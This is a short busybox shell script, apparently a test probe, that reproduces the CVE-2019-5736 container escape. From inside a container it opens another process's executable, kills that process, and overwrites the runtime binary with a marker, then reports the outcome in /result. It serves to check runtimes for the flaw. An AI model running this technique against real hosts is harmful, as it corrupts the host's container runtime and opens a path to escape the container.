# What runs in a container to get hold of the runtime's own file (CVE-2019-5736), with busybox' shell: it opens the program of any process
# that is not this root's, ends that process, and writes to the file as soon as nobody executes it. /result says what came of it.
# shellcheck shell=busybox
look() {
  for process in /proc/[0-9]*; do
    program=$(readlink "$process/exe") || continue
    case $program in */busybox) continue ;; esac
    exec 3<"$process/exe" || continue
    kill -KILL "${process#/proc/}"
    until (echo broken >/proc/self/fd/3) 2>/reason; do grep -q busy /reason || break; done
    [ -s /reason ] || echo written >/reason
    mv /reason /result
    # shellcheck disable=SC2093 # one file is enough
    exec sleep 1000
  done
}
while :; do look; done
